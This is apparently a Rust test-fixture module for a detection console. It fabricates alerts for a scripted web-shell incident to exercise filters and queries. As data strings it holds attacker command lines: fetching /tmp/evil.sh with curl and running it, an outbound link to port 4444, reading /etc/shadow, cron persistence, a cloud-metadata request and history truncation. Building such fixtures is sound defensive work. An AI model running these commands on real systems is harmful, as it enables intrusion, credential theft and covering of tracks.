//! A scripted world for tests: a fixed incident, and answers to the console's questions from a plain list of alerts,
//! whose filters are judged as in earnest.

use std::cell::RefCell;
use std::net::Ipv4Addr;
use std::sync::Arc;

use eyas_engine::ruleset::Ruleset;
use eyas_event::{
    Alert, AlertId, BootTime, HookState, HookStatus, OutputValue, Priority, Process, ProcessKey, RulesetHash,
    WallTime,
};

use crate::answers::problems;
use crate::select::Selection;

use super::door::{Detail, FilterProblem, Gap, Histogram, Pulse, Query, Question, Reply, RuleSource, Sensor};

/// 2026-11-22 14:03:00 UTC.
pub(crate) const BEGIN: u64 = 1_795_356_180_000_000_000;
const BOOT: u64 = 86_400_000_000_000;
const SECOND: u64 = 1_000_000_000;

/// What answers.
#[derive(Clone, Debug, Default)]
pub(crate) struct World {
    pub(crate) alerts: Vec<Arc<Alert>>,
    pub(crate) gaps: Vec<Gap>,
    pub(crate) broken: bool,
}

impl World {
    pub(crate) fn answer(&self, question: &Question) -> Reply {
        if self.broken {
            return Reply::Failed("the disk is full".to_owned());
        }
        match question {
            Question::CompileFilter(text) => Reply::Filter {
                text: text.clone(),
                result: compile(text)
                    .map(|f| self.alerts.iter().filter(|a| f.borrow_mut().holds(a)).count() as u64),
            },
            Question::Store(query) => self.ask(query),
        }
    }

    fn ask(&self, query: &Query) -> Reply {
        let meets = |filter: &Option<Arc<str>>| {
            let compiled =
                filter.as_ref().map(|f| compile(f).expect("only filters that compiled are asked for"));
            move |a: &Arc<Alert>| compiled.as_ref().is_none_or(|f| f.borrow_mut().holds(a))
        };
        match query {
            Query::Page { before, limit, filter } => {
                let keep = meets(filter);
                let all = self.alerts.iter().rev().filter(|a| before.is_none_or(|b| a.id < b) && keep(a));
                Reply::Page(all.take(*limit).cloned().collect())
            }
            Query::After { id, limit, filter } => {
                let keep = meets(filter);
                Reply::Page(self.alerts.iter().filter(|a| a.id > *id && keep(a)).take(*limit).cloned().collect())
            }
            Query::Detail(id) => Reply::Detail(Box::new(Detail {
                id: *id,
                rule: self.alerts.iter().find(|a| a.id == *id).map(|a| RuleSource {
                    file: "rules/eyas.yaml".to_owned(),
                    line: 41,
                    desc: "A program is run from a directory that anybody may write to, which is how downloaded tools begin."
                        .to_owned(),
                    condition: "spawned_process and proc.exepath startswith /tmp/\n".to_owned(),
                    text: format!(
                        "- rule: {}\n  condition: >\n    spawned_process and proc.exepath startswith /tmp/\n  priority: {}",
                        a.rule,
                        a.priority.name().to_uppercase()
                    ),
                }),
            })),
            Query::Histogram { from, to, buckets, filter } => {
                let keep = meets(filter);
                let mut counts = vec![[0; 8]; usize::from(*buckets)];
                for a in self.alerts.iter().filter(|a| a.time >= *from && a.time < *to && keep(a)) {
                    let at = (u128::from(a.time.0 - from.0) * u128::from(*buckets) / u128::from(to.0 - from.0)) as usize;
                    counts[at][a.priority as usize] += 1;
                }
                Reply::Histogram(Histogram { from: *from, to: *to, buckets: counts, gaps: self.gaps.clone() })
            }
            Query::Losses => Reply::Losses(self.gaps.clone()),
            Query::CountFilter { filter } => {
                let keep = meets(&Some(filter.clone()));
                Reply::Count(self.alerts.iter().filter(|a| keep(a)).count() as u64)
            }
        }
    }
}

/// The filter, by the engine that judges in earnest.
fn compile(text: &str) -> Result<RefCell<Selection>, Vec<FilterProblem>> {
    Selection::compile(text, &Ruleset::empty()).map(RefCell::new).map_err(|rejected| problems(&rejected))
}

/// The plainest alert, `n` seconds into the incident.
pub(crate) fn alert(n: u64) -> Alert {
    shell(n, Priority::Warning, "Program run from /tmp", "bash")
}

fn process(pid: u32, comm: &str, argv: &[&str], exe: &str, uid: u32, container: &str) -> Process {
    let mut bytes = Vec::new();
    for arg in argv {
        bytes.extend_from_slice(arg.as_bytes());
        bytes.push(0);
    }
    let started = BootTime(BOOT - 3_600 * SECOND + u64::from(pid) * 1_000_000);
    Process {
        key: ProcessKey::at(pid, started),
        started,
        comm: comm.as_bytes().into(),
        argv: bytes.into(),
        exe_path: exe.as_bytes().into(),
        cwd: (*b"/var/www/html").into(),
        uid,
        euid: uid,
        container: container.into(),
        ..Process::default()
    }
}

/// An alert by a child of the web server.
pub(crate) fn shell(n: u64, priority: Priority, rule: &str, comm: &str) -> Alert {
    let own = process(4_000 + n as u32, comm, &[comm, "-c", "id"], &format!("/usr/bin/{comm}"), 33, "host");
    made(n, priority, rule, "www-data", own, format!("{rule} (command={comm} -c id user=www-data)"))
}

/// An alert by a process, with the web server's line as its ancestors.
pub(crate) fn made(
    n: u64,
    priority: Priority,
    rule: &str,
    user: &str,
    own: Process,
    message: String,
) -> Alert {
    let container = own.container.to_string();
    let ancestors = [
        process(
            2_117,
            "sh",
            &["sh", "-c", "curl -o /tmp/evil.sh http://127.0.0.1:8000/evil.sh"],
            "/usr/bin/dash",
            33,
            &container,
        ),
        process(1_204, "php-fpm8.2", &["php-fpm: pool www"], "/usr/sbin/php-fpm8.2", 33, &container),
        process(
            1_190,
            "php-fpm8.2",
            &["php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"],
            "/usr/sbin/php-fpm8.2",
            0,
            &container,
        ),
        process(1, "systemd", &["/sbin/init", "splash"], "/usr/lib/systemd/systemd", 0, "host"),
    ];
    let time = WallTime(BEGIN + n * SECOND);
    let text = |s: &str| OutputValue::Text(s.to_owned());
    let comm = eyas_event::text::to_utf8(&own.comm).into_owned();
    let cmdline = eyas_event::text::to_utf8(&own.cmdline()).into_owned();
    let mut fields = vec![
        ("evt.num".to_owned(), OutputValue::Uint(1_000 + n)),
        ("evt.type".to_owned(), text("execve")),
        ("evt.rawres".to_owned(), OutputValue::Int(0)),
        ("evt.failed".to_owned(), OutputValue::Bool(false)),
        ("proc.name".to_owned(), text(&comm)),
        ("proc.pname".to_owned(), text("sh")),
        ("proc.exepath".to_owned(), text(&eyas_event::text::to_utf8(&own.exe_path))),
        ("proc.cmdline".to_owned(), text(&cmdline)),
        ("proc.pid".to_owned(), OutputValue::Int(i64::from(own.key.pid))),
        ("proc.tty".to_owned(), OutputValue::Null),
        ("user.name".to_owned(), text(user)),
        ("user.uid".to_owned(), OutputValue::Uint(u64::from(own.uid))),
        ("container.id".to_owned(), text(&container)),
    ];
    for (n, p) in ancestors.iter().enumerate() {
        fields.push((format!("proc.apid[{}]", n + 1), OutputValue::Int(i64::from(p.key.pid))));
    }
    Alert {
        id: AlertId::new(time, n),
        time,
        boot_time: BootTime(BOOT + n * SECOND),
        rule: rule.into(),
        priority,
        tags: Arc::from(["T1059".into(), "container".into(), "mitre_execution".into()]),
        ruleset: RulesetHash([0xa1; 32]),
        source: "syscall".into(),
        node: "demo-node".into(),
        message,
        output_fields: Vec::new(),
        fields,
        event_num: 1_000 + n,
        event_type: "execve",
        process: Arc::new(own),
        ancestors: ancestors.into_iter().map(Arc::new).collect(),
        user: user.to_owned(),
        lost_before: 0,
    }
}

/// A web shell that downloads a tool, runs it, reads secrets and connects out.
pub(crate) fn incident() -> Vec<Arc<Alert>> {
    let pod = "3f2a9c81d07e";
    let p = |pid: u32, comm: &str, argv: &[&str], exe: &str| process(pid, comm, argv, exe, 33, pod);
    let rows: Vec<(u64, Priority, &str, &str, Process, String)> = vec![
        (
            2,
            Priority::Notice,
            "Shell spawned in a container",
            "www-data",
            p(4_010, "sh", &["sh", "-c", "id; uname -a"], "/usr/bin/dash"),
            "A shell was spawned in a container (command=sh -c id; uname -a parent=php-fpm8.2)".into(),
        ),
        (
            9,
            Priority::Warning,
            "Download tool writes below /tmp",
            "www-data",
            p(
                4_012,
                "curl",
                &["curl", "-o", "/tmp/evil.sh", "http://127.0.0.1:8000/evil.sh"],
                "/usr/bin/curl",
            ),
            "curl wrote /tmp/evil.sh (command=curl -o /tmp/evil.sh http://127.0.0.1:8000/evil.sh)".into(),
        ),
        (
            14,
            Priority::Notice,
            "Outbound connection by an interpreter",
            "www-data",
            p(4_013, "python3", &["python3", "-c", "import socket"], "/usr/bin/python3.11"),
            "python3 connected to 203.0.113.9:4444".into(),
        ),
        (
            21,
            Priority::Error,
            "Program run from /tmp",
            "www-data",
            p(4_015, "evil.sh", &["/bin/bash", "/tmp/evil.sh"], "/usr/bin/bash"),
            "A program was run from /tmp (file=/tmp/evil.sh parent=sh)".into(),
        ),
        (
            22,
            Priority::Critical,
            "Sensitive file read",
            "root",
            process(4_016, "c", &["/tmp/c", "/etc/shadow"], "/tmp/c", 0, pod),
            "/etc/shadow was read by /tmp/c (user=root parent=evil.sh)".into(),
        ),
        (
            22,
            Priority::Error,
            "Program run from /tmp",
            "root",
            process(4_016, "c", &["/tmp/c", "/etc/shadow"], "/tmp/c", 0, pod),
            "A program was run from /tmp (file=/tmp/c parent=evil.sh)".into(),
        ),
        (
            38,
            Priority::Warning,
            "Write below /etc",
            "root",
            process(4_020, "tee", &["tee", "-a", "/etc/cron.d/update"], "/usr/bin/tee", 0, "host"),
            "tee wrote /etc/cron.d/update".into(),
        ),
        (
            39,
            Priority::Critical,
            "Scheduled task changed",
            "root",
            process(4_020, "tee", &["tee", "-a", "/etc/cron.d/update"], "/usr/bin/tee", 0, "host"),
            "/etc/cron.d/update was changed by tee (parent=evil.sh)".into(),
        ),
        (
            55,
            Priority::Notice,
            "Cloud metadata contacted",
            "www-data",
            p(4_024, "curl", &["curl", "-s", "http://169.254.169.254/latest/meta-data/"], "/usr/bin/curl"),
            format!("curl connected to {}:80", Ipv4Addr::new(169, 254, 169, 254)),
        ),
        (
            71,
            Priority::Informational,
            "Package manager in a container",
            "root",
            process(4_031, "apt-get", &["apt-get", "install", "-y", "nmap"], "/usr/bin/apt-get", 0, pod),
            "apt-get ran in a container".into(),
        ),
        (
            80,
            Priority::Warning,
            "Shell history truncated",
            "root",
            process(4_040, "bash", &["bash"], "/usr/bin/bash", 0, pod),
            "/root/.bash_history was truncated by bash".into(),
        ),
    ];
    rows.into_iter()
        .enumerate()
        .map(|(i, (at, priority, rule, user, own, message))| {
            let mut alert = made(at, priority, rule, user, own, message);
            alert.id = AlertId::new(alert.time, i as u64);
            Arc::new(alert)
        })
        .collect()
}

/// A node that works.
pub(crate) fn pulse(alerts: u64) -> Pulse {
    let hook = |name, purpose, state| HookStatus { name, purpose, state };
    Pulse {
        sensor: Sensor::On,
        hooks: vec![
            hook("tp_btf/sched_process_exec", "programs run", HookState::On),
            hook("tp_btf/sched_process_exit", "processes end", HookState::On),
            hook(
                "tp_btf/sys_exit",
                "opens and connections",
                HookState::Off("the kernel has no BTF".to_owned()),
            ),
        ],
        events_per_s: 1_203,
        events: 90_412,
        alerts,
        rss_bytes: 24_300_000,
        ruleset: Some(RulesetHash([0xa1; 32])),
        rules: 14,
        now: WallTime(BEGIN + 90 * SECOND),
        ..Pulse::starting("demo-node".into())
    }
}
